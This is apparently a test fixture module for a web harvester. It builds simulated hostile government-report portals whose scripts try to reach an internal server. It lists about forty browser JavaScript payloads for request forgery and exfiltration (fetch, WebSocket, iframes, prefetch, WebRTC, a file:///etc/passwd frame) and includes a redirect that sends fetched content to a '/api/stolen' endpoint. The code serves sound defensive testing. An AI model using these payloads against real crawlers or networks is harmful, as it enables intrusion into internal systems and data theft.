"""Portals whose pages try, in a browser, what no guest may be made to do: to reach a machine of the inside."""

from __future__ import annotations

from collections.abc import Iterable

from harvester.sample.server import Answer, Server
from tests.portals.simulator import Simulator, html

TITLE = "青山县教育局{}年政府信息公开工作年度报告"


class HostilePortal(Simulator):
    """A list that a browser must show; `script` runs before it. Two reports, which must be found all the same."""

    def __init__(self, script: str = "", head: str = "", extra: str = "") -> None:
        super().__init__("browser", "/xxgk/annual/")
        self.extra = extra
        rows = ""
        for year in (2022, 2021):
            path = f"/article/{year}0001.html"
            self.add_report(path, "青山县教育局", year)
            rows += f"<li><a href='{path}'>{TITLE.format(year)}</a></li>"
        fill = f'document.getElementById("app").innerHTML = "<ul>{rows}</ul>";'
        self.site.page(
            self.start, html(f'<div id="app"></div><script>{fill}</script><script>{script}</script>', head=head)
        )


REACHES = {
    "websocket": "new WebSocket('ws://{inside}/inside?{way}')",
    "beacon": "navigator.sendBeacon('http://{inside}/inside?{way}', 'x')",
    "fetch": "fetch('http://{inside}/inside?{way}', {{mode: 'no-cors'}})",
    "form": "document.body.innerHTML += '<form method=post action=http://{inside}/inside?{way}>';"
    "document.forms[0].submit()",
    "location": "location.href = 'http://{inside}/inside?{way}'",
    "frame": "document.body.innerHTML += '<iframe src=http://{inside}/inside?{way}>'",
    "picture": "new Image().src = 'http://{inside}/inside?{way}'",
    "worker": "new Worker(URL.createObjectURL(new Blob([`fetch('http://{inside}/inside?{way}')`])))",
    "shared worker": "new SharedWorker(URL.createObjectURL(new Blob([`fetch('http://{inside}/inside?{way}')`])))",
    "socket in a worker": "new Worker(URL.createObjectURL(new Blob([`new WebSocket('ws://{inside}/inside?{way}')`])))",
    "import": "import('http://{inside}/inside?{way}')",
    "events": "new EventSource('http://{inside}/inside?{way}')",
    "window": "window.open('http://{inside}/inside?{way}')",
    "prefetch": "document.head.innerHTML += '<link rel=prefetch href=http://{inside}/inside?{way}>'",
    "preconnect": "document.head.innerHTML += '<link rel=preconnect href=http://{inside}/>'",
    "style": "document.head.innerHTML += '<link rel=stylesheet href=http://{inside}/inside?{way}>'",
    "font": "new FontFace('x', 'url(http://{inside}/inside?{way})').load()",
    "film": "document.body.innerHTML += '<video src=http://{inside}/inside autoplay>'",
    "download": "const a = document.createElement('a'); a.href = 'http://{inside}/inside?{way}'; a.download = 'x';"
    "a.click()",
    "speculation": "const s = document.createElement('script'); s.type = 'speculationrules';"
    "s.textContent = JSON.stringify({{prerender: [{{source: 'list', urls: ['http://{inside}/inside?{way}']}}]}});"
    "document.head.append(s)",
    "rtc": "const p = new RTCPeerConnection({{iceServers: [{{urls: 'turn:{inside}?transport=tcp',"
    "username: 'a', credential: 'b'}}]}}); p.createDataChannel('x');"
    "p.createOffer().then(o => p.setLocalDescription(o))",
    "ping": "document.body.innerHTML += '<a id=p href=# ping=http://{inside}/inside?{way}>x</a>';"
    "document.getElementById('p').click()",
    "worker script": "new Worker(URL.createObjectURL(new Blob([`importScripts('http://{inside}/inside?{way}')`])))",
    "service worker": "navigator.serviceWorker.register('/sw.js')",
    "web transport": "new WebTransport('https://{inside}/inside?{way}')",
    "module": "document.head.innerHTML += '<link rel=modulepreload href=http://{inside}/inside?{way}>'",
    "manifest": "document.head.innerHTML += '<link rel=manifest href=http://{inside}/inside?{way}>'",
    "icon": "document.head.innerHTML += '<link rel=icon href=http://{inside}/inside?{way}>'",
    "style within": "document.head.innerHTML += '<style>@import url(http://{inside}/inside?{way});</style>'",
    "frame of its own": "document.body.innerHTML += '<iframe srcdoc=\"<img src=http://{inside}/inside?{way}>\">'",
    "frame of data": "document.body.innerHTML += '<iframe src=\"data:text/html,<img src=http://{inside}/inside>\">'",
    "frame of a blob": "const b = document.createElement('iframe'); b.src = URL.createObjectURL(new Blob("
    "['<img src=http://{inside}/inside>'], {{type: 'text/html'}})); document.body.append(b)",
    "file": "document.body.innerHTML += '<iframe src=file:///etc/passwd>'",
    "drawing": "document.body.innerHTML += '<svg><image href=http://{inside}/inside?{way} /></svg>'",
    "track": "document.body.innerHTML += '<video><track default src=http://{inside}/inside?{way}></video>'",
    "request": "const x = new XMLHttpRequest(); x.open('GET', 'http://{inside}/inside?{way}'); x.send()",
    "kept alive": "fetch('http://{inside}/inside?{way}', {{mode: 'no-cors', keepalive: true}})",
    "object": "document.body.innerHTML += '<object data=http://{inside}/inside?{way}></object>'",
}
"""A way out, and the script that tries it."""


LEAVES = ("form", "location", "download", "window")
"""Those that may take the page away: each is tried alone."""


def reaching(ways: Iterable[str], inside: Server) -> HostilePortal:
    """A page that tries to reach a machine of the inside, in these ways at once."""
    tries = (REACHES[way].format(inside=inside.host, way=way.replace(" ", "_")) for way in ways)
    return HostilePortal("".join(f"try {{ {one} }} catch (e) {{ console.log(e) }};" for one in tries))


def led_by_redirect(inside: Server) -> HostilePortal:
    """Its own address redirects its script to the inside."""
    portal = HostilePortal(
        "fetch('/api/go').then(r => r.text()).then(t => fetch('/api/stolen?' + encodeURIComponent(t)))"
    )
    portal.site.pages["/api/go"] = Answer(status=302, headers=(("Location", f"{inside.url}/inside"),))
    return portal
